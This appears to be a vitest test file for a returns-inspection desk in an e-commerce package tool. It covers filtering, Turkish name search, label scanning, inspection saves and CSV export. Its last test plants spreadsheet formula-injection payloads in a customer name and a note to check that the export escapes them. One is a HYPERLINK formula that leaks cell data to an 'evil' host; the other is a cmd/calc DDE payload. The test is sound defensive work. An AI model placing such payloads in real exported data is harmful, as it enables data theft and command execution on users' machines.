import { afterEach, describe, expect, it } from 'vitest';
import { PackageSync } from '../../../src/main/core/packages/sync';
import { notificationsOf } from '../../../src/main/core/notifications/service';
import { PackageNotification } from '../../../src/shared/service/webhooks';
import { rig, type TestRig } from '../../support/core';
import { productsOf } from '../../../src/main/core/catalog/products-repo';
import { fold } from '../../../src/shared/text/case';

let t: TestRig;
afterEach(async () => t?.close());

type Rec = {
  id: number;
  orderNumber: string;
  cargoTrackingNumber: string;
  cargoKey: string;
  cargoBarcode: string | null;
  sourcePackageId: string;
  lines: { sku: string; barcode: string; itemLines: { id: number; sourceOrderItemLineId: string }[] }[];
  cargoName: string;
};

async function setup(returns = 60) {
  t = await rig({ sandbox: { packages: 80, returns, seed: 17, days: 20 } });
  await t.signIn();
  await new PackageSync(t.core.ctx.workspace(), t.core.ctx).run({ from: new Date(Date.now() - 60 * 86_400_000).toISOString() });
}
/** Every return up to tomorrow, times in the CSV local to Istanbul. */
const everything = { from: '2000-01-01T00:00:00Z', to: new Date(Date.now() + 86_400_000).toISOString(), timeZone: 'Europe/Istanbul' };
const rec = async (id: number) => (await t.admin(`packages/record?id=${id}`)) as Rec;

describe('returns desk', () => {
  it('filters by decision, carrier, customer and inspection, sorted by return date', async () => {
    await setup();
    const all = await t.call('returns.list', {});
    expect(all.total).toBe(60);
    const dates = all.items.map((r) => r.returnDate ?? '');
    expect([...dates].sort().reverse()).toEqual(dates);
    const by = async (decision: 'awaiting' | 'confirmed' | 'rejected') => (await t.call('returns.list', { decision })).total;
    const [a, c, r] = [await by('awaiting'), await by('confirmed'), await by('rejected')];
    expect(a > 0 && c > 0 && r > 0).toBe(true);
    expect(a + c + r).toBe(60);
    const carrier = all.items[0]!.cargoName!;
    const byCarrier = await t.call('returns.list', { carrier });
    expect(byCarrier.items.every((x) => x.cargoName === carrier)).toBe(true);
    const name = all.items[3]!.customerName;
    const byCustomer = await t.call('returns.list', { customer: name.toLocaleLowerCase('tr-TR') });
    expect(byCustomer.items.map((x) => x.id)).toContain(all.items[3]!.id);
    expect((await t.call('returns.list', { inspected: 'none' })).total).toBe(60);
  });

  it('finds a customer by the first one or two letters of a first or last name, Turkish capitals too (İpek by "i", Ömer by "ö" or "o")', async () => {
    await setup(400);
    const names = t.core.ctx
      .workspace()
      .db.prepare<[], { id: number; first: string | null; last: string | null }>(
        "SELECT id, customer_first_name AS first, customer_last_name AS last FROM packages WHERE kind = 'return'",
      )
      .all();
    const starts = new Set(names.flatMap((n) => [n.first, n.last].flatMap((s) => (s ? [s.slice(0, 1), s.slice(0, 2)] : []))));
    // The data has names that begin with a Turkish capital (İ, Ö, Ş, Ç, Ü), or the test proves nothing.
    expect([...starts].filter((s) => /^[İÖŞÇÜ]$/.test(s)).length).toBeGreaterThanOrEqual(3);
    for (const typed of starts) {
      const q = fold(typed);
      const expected = names
        .filter((n) => [n.first, n.last].some((s) => s !== null && fold(s).startsWith(q)))
        .map((n) => n.id)
        .sort();
      // As printed on the label, as typed in lower case in Turkish, and as typed on a US keyboard.
      for (const customer of [typed, typed.toLocaleLowerCase('tr-TR'), q]) {
        const found = await t.call('returns.list', { customer, limit: 500 });
        expect(found.items.map((r) => r.id).sort(), `${typed} typed as "${customer}"`).toEqual(expected);
        expect(found.total).toBe(expected.length);
      }
    }
  });

  it('opens a return from any code on its label, never from an item barcode', async () => {
    await setup();
    const r = await rec(900_005);
    for (const code of [r.cargoTrackingNumber, r.cargoKey, String(r.id), r.sourcePackageId, ...(r.cargoBarcode ? [r.cargoBarcode] : [])]) {
      expect(
        (await t.call('returns.scan', { code })).map((x) => x.id),
        code,
      ).toEqual([900_005]);
    }
    expect((await t.call('returns.scan', { code: r.orderNumber })).map((x) => x.id)).toContain(900_005);
    expect(await t.call('returns.scan', { code: r.lines[0]!.barcode })).toEqual([]);
    expect(await t.call('returns.scan', { code: 'NOTHING-123' })).toEqual([]);
  });

  it('inspects by scanning items and typing, highlights mismatches, marks done, reopens', async () => {
    await setup();
    const r = await rec(900_007);
    const barcode = r.lines[0]!.barcode;
    let insp = await t.call('returns.scanItem', { id: 900_007, code: barcode });
    expect(insp.lines.find((l) => l.barcode === barcode)).toMatchObject({ receivedQty: 1, condition: 'as_described' });
    // Another parcel's label is not an item: it is not added to the inspection.
    expect(await t.core.call('returns.scanItem', { id: 900_007, code: 'KARGO-ETIKET-77' })).toMatchObject({
      ok: false,
      error: { code: 'not_found' },
    });
    insp = await t.call('returns.scanItem', { id: 900_007, code: '8690000000999' });
    expect(insp.lines.at(-1)).toMatchObject({ extra: true, condition: 'wrong_item', mismatch: true, receivedQty: 1 });
    // A wrong item the catalogue knows says which product it is.
    productsOf(t.core.ctx.workspace()).save({ sku: 'KREM-50', barcode: '9506000134352', name: 'Nemlendirici Krem' }, 'saved');
    insp = await t.call('returns.scanItem', { id: 900_007, code: '9506000134352' });
    expect(insp.lines.at(-1)).toMatchObject({ extra: true, sku: 'KREM-50', barcode: '9506000134352', productName: 'Nemlendirici Krem' });
    // Taken back out of the way of the rest of this test.
    insp = await t.call('returns.save', {
      id: 900_007,
      lines: [{ itemKey: insp.lines.at(-1)!.itemKey, receivedQty: 0, condition: 'wrong_item', note: null }],
      expectedUpdatedAt: insp.updatedAt,
    });
    const first = insp.lines[0]!;
    insp = await t.call('returns.save', {
      id: 900_007,
      lines: [{ itemKey: first.itemKey, receivedQty: first.receivedQty, condition: 'damaged', note: 'Kutu ezik' }],
      recommendation: 'reject',
      reason: 'Hasarlı geldi',
      expectedUpdatedAt: insp.updatedAt,
    });
    expect(insp.lines[0]).toMatchObject({ condition: 'damaged', note: 'Kutu ezik', mismatch: true });
    expect(insp.inspector).toBe('demo');
    // A stale editor cannot overwrite a newer save.
    expect(
      await t.core.call('returns.save', { id: 900_007, lines: [], note: 'x', expectedUpdatedAt: '2000-01-01T00:00:00.000Z' }),
    ).toMatchObject({ ok: false, error: { code: 'conflict' } });
    const done = await t.call('returns.done', { id: 900_007 });
    expect(done).toMatchObject({ state: 'done', recommendation: 'reject' });
    expect(await t.core.call('returns.scanItem', { id: 900_007, code: barcode })).toMatchObject({ ok: false, error: { code: 'conflict' } });
    expect((await t.call('returns.list', { inspected: 'done' })).items.map((x) => x.id)).toEqual([900_007]);
    expect((await t.call('returns.reopen', { id: 900_007 })).state).toBe('in_progress');
  });

  it('says so when the return changes in the service while it is inspected', async () => {
    await setup();
    const id = (await t.call('returns.list', { decision: 'awaiting' })).items[0]!.id;
    await t.call('returns.scanItem', { id, code: (await rec(id)).lines[0]!.barcode });
    const before = await t.call('returns.get', { id });
    expect(before.conflict).toBeNull();
    const r = await rec(id);
    notificationsOf(t.core.ctx.workspace(), t.core.ctx).receive(
      PackageNotification.parse({
        hookName: 'ReturnOrderPackageConfirmedEvent',
        packageId: String(r.id),
        packageType: 'Return',
        items: r.lines[0]!.itemLines.map((i) => ({
          orderItemLineId: i.sourceOrderItemLineId,
          packageItemStatusId: 1318,
          packageItemStatusName: 'Returned',
        })),
        packageStatusId: 1318,
        packageStatusName: 'Returned',
      }),
    );
    const after = await t.call('returns.get', { id });
    expect(after.conflict).toEqual({ from: before.package.summary.status, to: 'Returned' });
    expect(after.decision).toBe('confirmed');
    expect(after.notifications.map((n) => n.hookName)).toEqual(['ReturnOrderPackageConfirmedEvent']);
    await t.call('returns.save', { id, lines: [], recommendation: 'accept' });
    expect(await t.core.call('returns.done', { id })).toMatchObject({ ok: false, error: { code: 'conflict' } });
    expect((await t.call('returns.ackChange', { id })).conflict).toBeNull();
    expect((await t.call('returns.done', { id })).state).toBe('done');
  });

  it('exports the inspections of a date range as CSV', async () => {
    await setup();
    const r = await rec(900_011);
    await t.call('returns.scanItem', { id: 900_011, code: r.lines[0]!.barcode });
    await t.call('returns.save', { id: 900_011, lines: [], recommendation: 'accept', note: 'Sorun yok, ürün sağlam' });
    const e = await t.call('returns.export', everything);
    const [head, ...rows] = e.csv
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\r\n');
    // The worker's language by default (issue 46.12: headers and values were codes: accept, ReturnPending …).
    expect(head).toContain('İade paketi;Sipariş numarası;Müşteri');
    expect(rows.length).toBe(e.rows);
    expect(rows[0]).toContain('900011;');
    expect(rows[0]).toContain('Sorun yok, ürün sağlam');
    const cols = head!.split(';');
    const cells = rows[0]!.split(';');
    const cell = (name: string) => cells[cols.indexOf(name)];
    expect([cell('Öneri'), cell('İnceleme'), cell('Karar')]).toEqual(['Kabul', 'Sürüyor', 'Onaylandı']);
    expect(cell('Durum')).not.toMatch(/^[A-Z][a-z]+[A-Z]|^(Created|Shipped|Returned|ReturnPending)$/);
    expect(rows.join('\n')).not.toMatch(/;(accept|in_progress|awaiting|confirmed|ReturnPending);/);
    // The option for another program: the codes, as before.
    await t.call('settings.update', { exportCodes: true });
    const codes = (await t.call('returns.export', everything)).csv
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\r\n');
    expect(codes[0]).toContain('return_package_id;order_number;customer');
    const codeCells = codes[1]!.split(';');
    const codeCols = codes[0]!.split(';');
    expect([
      codeCells[codeCols.indexOf('recommendation')],
      codeCells[codeCols.indexOf('inspection_state')],
      codeCells[codeCols.indexOf('decision')],
    ]).toEqual(['accept', 'in_progress', 'confirmed']);
    const none = await t.call('returns.export', {
      from: '2001-01-01T00:00:00+03:00',
      to: '2001-01-02T00:00:00+03:00',
      timeZone: 'Europe/Istanbul',
    });
    expect(none.rows).toBe(0);
  });

  it('export: a customer name or a note that looks like a formula is written as text', async () => {
    await setup();
    const r = await rec(900_011);
    t.core.ctx
      .workspace()
      .db.prepare("UPDATE packages SET customer_first_name = ?, customer_last_name = NULL WHERE kind = 'return' AND id = 900011")
      .run('=HYPERLINK("http://evil/?"&A1,"x")');
    await t.call('returns.scanItem', { id: 900_011, code: r.lines[0]!.barcode });
    await t.call('returns.save', { id: 900_011, lines: [], recommendation: 'accept', note: '@SUM(1+1)*cmd|/C calc' });
    const e = await t.call('returns.export', everything);
    const row = e.csv.split('\r\n').find((l) => l.startsWith('900011;'))!;
    expect(row).toContain(`;"'=HYPERLINK(""http://evil/?""&A1,""x"")";`);
    expect(row).toContain(`;'@SUM(1+1)*cmd|/C calc;`);
    expect(row.split(';').filter((c) => /^[=+\-@]/.test(c))).toEqual([]);
  });
});
